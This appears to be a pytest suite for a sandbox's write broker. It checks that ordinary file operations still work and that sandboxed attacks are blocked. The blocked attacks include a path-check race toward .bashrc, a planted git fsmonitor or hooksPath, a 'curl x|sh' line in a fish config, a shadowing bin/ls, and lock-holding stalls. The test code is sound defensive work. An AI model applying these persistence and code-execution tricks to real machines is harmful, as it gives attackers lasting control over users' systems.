"""The write broker under real workloads and real attacks.

Normal file operations must keep working inside the workspace (they are
performed by the broker), protected names must stay protected however they
are reached, and racing the broker's check must not help.
"""

from __future__ import annotations

import os

import pytest

from tests.conftest import PROBE_PYTHON, World, needs_bwrap

pytestmark = [needs_bwrap, pytest.mark.backend("bubblewrap")]


def py(world: World, code: str, *options: str) -> object:
    path = World.write(world.ws("probe.py"), code)
    return world.corral("run", *options, "--", PROBE_PYTHON, path)


def test_file_operations_work_through_the_broker(world: World) -> None:
    code = r"""
import os, stat, tempfile
os.makedirs("d/e", exist_ok=True)
with open("d/e/f.txt", "w") as f: f.write("one")
with open("d/e/f.txt", "a") as f: f.write("two")
with open("d/e/f.txt", "r+") as f: f.seek(0); f.write("ONE")
os.rename("d/e/f.txt", "d/g.txt")
os.replace("d/g.txt", "d/h.txt")
os.link("d/h.txt", "d/h2.txt")
os.unlink("d/h2.txt")
os.symlink("h.txt", "d/link")
with open("d/link", "a") as f: f.write("3")        # through a symlink inside the workspace
os.chmod("d/h.txt", 0o640)
os.truncate("d/h.txt", 4)
os.utime("d/h.txt", (1000000000, 1000000000))
os.mkfifo("d/fifo")
fd = os.open("d", os.O_TMPFILE | os.O_WRONLY, 0o600)
os.write(fd, b"tmpfile")
import ctypes
libc = ctypes.CDLL(None, use_errno=True)   # the O_TMPFILE recipe: linkat(..., AT_SYMLINK_FOLLOW)
assert libc.linkat(-100, f"/proc/self/fd/{fd}".encode(), -100, b"d/from-tmpfile", 0x400) == 0, ctypes.get_errno()
os.close(fd)
os.setxattr("d/h.txt", "user.corral", b"yes")
dirfd = os.open("d", os.O_RDONLY | os.O_DIRECTORY)
with open(os.open("via-dirfd.txt", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=dirfd), "w") as f: f.write("x")
os.rmdir("d/e")
os.umask(0o077); open("private.txt", "w").close()
print("OK")
"""
    result = py(world, code)
    assert result.returncode == 0, result.stderr  # type: ignore[attr-defined]
    d = world.ws("d")
    assert World.read(os.path.join(d, "h.txt")) == "ONEt"
    assert os.readlink(os.path.join(d, "link")) == "h.txt"
    assert oct(os.stat(os.path.join(d, "h.txt")).st_mode & 0o777) == oct(0o640)
    assert os.stat(os.path.join(d, "h.txt")).st_mtime == 1000000000
    assert World.read(os.path.join(d, "from-tmpfile")) == "tmpfile"
    assert os.getxattr(os.path.join(d, "h.txt"), "user.corral") == b"yes"
    assert World.read(os.path.join(d, "via-dirfd.txt")) == "x"
    assert not os.path.exists(os.path.join(d, "e"))
    assert oct(os.stat(world.ws("private.txt")).st_mode & 0o777) == oct(0o600)


def test_exec_after_a_supervised_syscall_keeps_working(world: World) -> None:
    # /proc/<pid>/mem goes stale when a process execs; the broker must notice
    result = world.run(
        "echo a > a.txt && exec sh -c 'echo b > b.txt && exec sh -c \"echo c > c.txt\"'"
    )
    assert result.returncode == 0, result.stderr
    assert [World.read(world.ws(n)) for n in ("a.txt", "b.txt", "c.txt")] == ["a\n", "b\n", "c\n"]


def test_racing_the_path_check_does_not_create_a_protected_file(world: World) -> None:
    # One thread flips the path between a harmless name and .bashrc while
    # another keeps creating it: the kernel's read-only mount must catch
    # whatever slips past the check.
    code = r"""
import ctypes, threading, time
libc = ctypes.CDLL(None, use_errno=True)
buf = ctypes.create_string_buffer(b"ok_name\0\0", 16)
stop = False
def flip():
    while not stop:
        ctypes.memmove(buf, b".bashrc\0", 8)
        ctypes.memmove(buf, b"ok_name\0", 8)
t = threading.Thread(target=flip); t.start()
end = time.time() + 3
n = 0
while time.time() < end:
    fd = libc.open(buf, 0o101, 0o644)   # O_WRONLY|O_CREAT
    if fd >= 0:
        libc.close(fd)
    libc.unlink(b"ok_name")
    n += 1
stop = True; t.join()
print("tries", n)
"""
    result = py(world, code)
    assert b"tries" in result.stdout, result.stderr  # type: ignore[attr-defined]
    assert not os.path.exists(world.ws(".bashrc"))


def test_renaming_a_big_tree_keeps_protection(world: World) -> None:
    tree = world.ws("big")
    for i in range(300):
        World.write(os.path.join(tree, f"d{i % 10}", f"f{i}.txt"), "x")
    os.makedirs(os.path.join(tree, "nested", ".git", "hooks"))
    World.write(os.path.join(tree, "nested", ".git", "config"), "[core]\n")
    World.write(os.path.join(tree, "plain", "config"), "[core]\n\tfsmonitor = evil\n")
    result = world.run("mv big big2 && mkdir -p q && mv big2/plain q/.git; echo done")
    # the tree moves: everything below it keeps its protection status ...
    assert os.path.exists(world.ws("big2", "nested", ".git", "config"))
    assert len(os.listdir(world.ws("big2", "d3"))) == 30
    # ... but a directory whose "config" would become a repository's .git/config may not
    assert not os.path.exists(world.ws("q", ".git"))
    assert os.path.exists(world.ws("big2", "plain", "config"))
    assert b"blocked write to" in result.stderr


@pytest.mark.parametrize("backend", ["bubblewrap", "landlock"])
def test_a_root_a_sandbox_chose_never_hides_a_protection_above_it(
    world: World, backend: str
) -> None:
    """A run makes new repositories at ``.config`` and ``.local`` (its own to make). A run
    started there has that repository as its workspace, where ``fish/config.fish`` is not
    ``**/.config/fish/**`` relative to the workspace - the whole path matches it, and so it
    stays protected, as do git's XDG config, user services and ``.local/bin``
    (docs/threat-model.md, "A root never hides a protection above it")."""
    degrade = (
        ["--allow-degraded", "isolation"] if backend == "landlock" and os.geteuid() == 0 else []
    )
    options = ["--backend", backend, "--isolation", "process", *degrade]
    plant = world.run("git init -q .config && git init -q .local && echo planted", *options)
    assert b"planted" in plant.stdout, plant.stderr
    attacks = {
        ".config": "mkdir -p fish git systemd/user; echo 'curl x|sh' > fish/config.fish; "
        "printf '[core]\\n\\tfsmonitor = evil\\n' > git/config; echo x > systemd/user/x.service; "
        "mkdir -p nvim && echo ok > nvim/init.lua && echo wrote",
        ".local": "mkdir -p bin; printf '#!/bin/sh\\n' > bin/ls; mkdir -p share && echo ok > "
        "share/f && echo wrote",
    }
    for directory, script in attacks.items():
        result = world.run(script, *options, cwd=world.ws(directory))
        assert b"wrote" in result.stdout, result.stderr  # the rest of the root is writable
        assert b"blocked write to" in result.stderr
    for rel in (".config/fish", ".config/git", ".config/systemd/user", ".local/bin"):
        assert not os.path.exists(world.ws(rel)), rel
    assert World.read(world.ws(".config", "nvim", "init.lua")) == "ok\n"


@pytest.mark.parametrize("backend", ["bubblewrap", "landlock"])
@pytest.mark.parametrize(
    ("key", "value", "name", "trigger"),
    [
        ("core.hooksPath", "tools/githooks", "githooks/pre-commit", "commit"),
        ("core.fsmonitor", "tools/fsmonitor.sh", "fsmonitor.sh", "status"),
    ],
)
def test_a_nested_root_never_hides_the_enclosing_repositorys_trusted_code_paths(
    world: World, backend: str, key: str, value: str, name: str, trigger: str
) -> None:
    """ATK17: the workspace's own config names ``tools/githooks`` (or an fsmonitor program
    ``tools/fsmonitor.sh``) as code, so the broker protects it - but only in a root whose
    own ``.git/config`` names it. A run makes ``tools`` a new repository (its own to make);
    the run started in ``tools`` has it as its workspace, reads only ``tools/.git/config``
    (no hooksPath), and writes the hook the user's config runs: the host's next ``git
    commit`` (or ``git status``) in the workspace runs it. The protection lies above the
    root, where it must still hold (docs/threat-model.md, "A root never hides a protection
    above it")."""
    from .test_git_persistence import host_git, marker

    ws = world.workspace
    assert host_git(world, ws, "init", "-q").returncode == 0
    World.write(world.ws("tools", "githooks", "pre-commit"), "#!/bin/sh\nexit 0\n")
    World.write(world.ws("tools", "fsmonitor.sh"), "#!/bin/sh\nexit 1\n")
    for script in ("githooks/pre-commit", "fsmonitor.sh"):
        os.chmod(world.ws("tools", script), 0o755)
    assert host_git(world, ws, "add", "-A").returncode == 0
    assert host_git(world, ws, "commit", "-qm", "init").returncode == 0
    assert host_git(world, ws, "config", key, value).returncode == 0
    degrade = (
        ["--allow-degraded", "isolation"] if backend == "landlock" and os.geteuid() == 0 else []
    )
    options = ["--backend", backend, "--isolation", "process", *degrade]
    payload = f"#!/bin/sh\ntouch {marker(world)}\nexit 1\n"
    # the workspace's run may not write it (the protection holds in its own root) ...
    direct = world.run(f"printf '{payload}' > tools/{name}", *options)
    assert b"blocked write to" in direct.stderr, direct.stderr
    # ... so it makes tools a repository of its own, and a run started there writes it
    plant = world.run("git init -q tools && echo planted", *options)
    assert b"planted" in plant.stdout, plant.stderr
    world.run(f"printf '{payload}' > {name}", *options, cwd=world.ws("tools"))
    if trigger == "commit":
        host_git(world, ws, "commit", "-q", "--allow-empty", "-m", "next")
    else:
        host_git(world, ws, "status", "--short")
    assert not os.path.exists(marker(world)), f"the host's git ran the planted {value}"
    assert World.read(world.ws("tools", name)) != payload


def test_unprotecting_a_row_from_a_trusted_layer(world: World) -> None:
    settings = World.write(
        os.path.join(world.home, ".config", "corral", "settings.json"),
        '{"filesystem": {"protect": ["!**/.git/config", "!**/.git/hooks/**"]}}',
    )
    assert os.path.exists(settings)
    result = world.run("git init -q sub && test -f sub/.git/config && echo inited")
    assert result.returncode == 0, result.stderr
    assert os.path.exists(world.ws("sub", ".git", "config"))


def test_untrusted_project_cannot_unprotect(world: World) -> None:
    World.write(
        world.ws(".corral", "settings.json"), '{"filesystem": {"protect": ["!**/.bashrc"]}}'
    )
    result = world.run("echo pwned > sub.bashrc; mkdir -p s; echo pwned > s/.bashrc; true")
    assert not os.path.exists(world.ws("s", ".bashrc"))
    assert b"ignoring filesystem.protect" in result.stderr


#: Sandbox A: takes the flock of its own workspace root (the lock every broker on that
#: root takes around each operation) and holds it until told on stdin.
_ROOT_LOCK_HOLDER = r"""
import fcntl, os, sys
fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
fcntl.flock(fd, fcntl.LOCK_EX)
print("held", flush=True)
sys.stdin.readline()
"""

#: Sandbox B on the same workspace: one write while A holds the directory's flock (how it
#: ended, after how long).
_LATE_WRITER = r"""
import os, time
start = time.monotonic()
try:
    with open("late.txt", "w") as f:
        f.write("written")
    outcome = "ok"
except OSError as exc:
    outcome = str(exc.errno)
print(outcome, round(time.monotonic() - start, 2), flush=True)
"""


def test_a_sandbox_flocking_its_workspace_root_holds_up_no_other_sandbox(world: World) -> None:
    """Brokers lock each supervised root around each operation (docs/threat-model.md, "Shapes
    under other names, while the run lasts"), but not on the directory itself: a flock
    there, which any process that can read the workspace may take (a sandbox, another local
    user), delays no write of another sandbox on that workspace. Without a private lock
    directory (a user without a home) the lock is the directory's own: the write then
    waits at most LOCK_BOUND and fails closed."""
    import errno
    import subprocess

    from corral.backends._broker_lock import LOCK_BOUND, _lock_directory
    from tests.conftest import client_command

    run = [*client_command("corral"), "run", "--", PROBE_PYTHON, "-c"]
    spawn = {
        "cwd": world.workspace,
        "env": dict(world.environ),
        "stdin": subprocess.PIPE,
        "stdout": subprocess.PIPE,
        "stderr": subprocess.PIPE,
    }
    holder = subprocess.Popen([*run, _ROOT_LOCK_HOLDER], **spawn)  # type: ignore[call-overload]
    try:
        assert holder.stdout.readline() == b"held\n", holder.stderr.read()
        writer = subprocess.run([*run, _LATE_WRITER], **{**spawn, "stdin": None}, timeout=120)  # type: ignore[call-overload]
        outcome, seconds = writer.stdout.split()
        if _lock_directory() is not None:
            assert outcome == b"ok", writer.stderr
            assert float(seconds) < LOCK_BOUND / 2  # never waited for the holder's lock
        else:  # no private lock directory (uid 65534: no home): the directory's own flock
            assert int(outcome) == errno.EAGAIN, writer.stderr  # held: bounded, closed
            assert LOCK_BOUND - 0.5 <= float(seconds) < LOCK_BOUND + 20
            assert not os.path.exists(world.ws("late.txt"))
        holder.communicate(b"\n", timeout=60)
        assert holder.returncode == 0, holder.stderr
    finally:
        holder.kill()
        holder.communicate()
    if _lock_directory() is not None:
        assert World.read(world.ws("late.txt")) == "written"


#: Sandbox A: tries to take the broker's lock of its workspace root through the private
#: lock file (argv[1]), and holds it, if it could, until told on stdin.
_LOCK_FILE_HOLDER = r"""
import fcntl, os, sys
try:
    fd = os.open(sys.argv[1], os.O_RDONLY)
    fcntl.flock(fd, fcntl.LOCK_EX)
    print("held", flush=True)
except OSError as exc:
    print("refused", exc.errno, flush=True)
try:
    print("listed", len(os.listdir(os.path.dirname(sys.argv[1]))), flush=True)
except OSError as exc:
    print("unlisted", exc.errno, flush=True)
sys.stdin.readline()
"""


def test_a_sandbox_never_holds_the_brokers_private_lock_file(world: World) -> None:
    """ATK12: the brokers' private lock files lie in the caller's home, which a sandbox
    can read (a root caller's home is mapped into it): a sandbox holding its root's lock
    file would stall every write of the user's other sandboxes on that workspace for
    LOCK_BOUND each. Every plan hides the lock directory."""
    import subprocess

    from corral.backends._broker_lock import LOCK_BOUND, lock_directory
    from tests.conftest import client_command

    locks = lock_directory()
    if locks is None:
        pytest.skip("this user has no private lock directory (no home): nothing to hide")
    first = world.run("echo first > first.txt")  # the broker makes the root's lock file
    assert first.returncode == 0, first.stderr
    st = os.stat(world.workspace)
    lock_file = os.path.join(locks, f"{st.st_dev:x}-{st.st_ino:x}")
    assert os.path.isfile(lock_file)
    run = [*client_command("corral"), "run", "--", PROBE_PYTHON, "-c"]
    spawn = {
        "cwd": world.workspace,
        "env": dict(world.environ),
        "stdin": subprocess.PIPE,
        "stdout": subprocess.PIPE,
        "stderr": subprocess.PIPE,
    }
    holder = subprocess.Popen([*run, _LOCK_FILE_HOLDER, lock_file], **spawn)  # type: ignore[call-overload]
    try:
        tried = holder.stdout.readline()
        assert tried.startswith(b"refused "), (tried, holder.stderr.read())
        assert holder.stdout.readline() in (b"listed 0\n", b"unlisted 2\n", b"unlisted 13\n")
        writer = subprocess.run([*run, _LATE_WRITER], **{**spawn, "stdin": None}, timeout=120)  # type: ignore[call-overload]
        outcome, seconds = writer.stdout.split()
        assert outcome == b"ok", writer.stderr
        assert float(seconds) < LOCK_BOUND / 2
        holder.communicate(b"\n", timeout=60)
        assert holder.returncode == 0, holder.stderr
    finally:
        holder.kill()
        holder.communicate()
    assert World.read(world.ws("late.txt")) == "written"
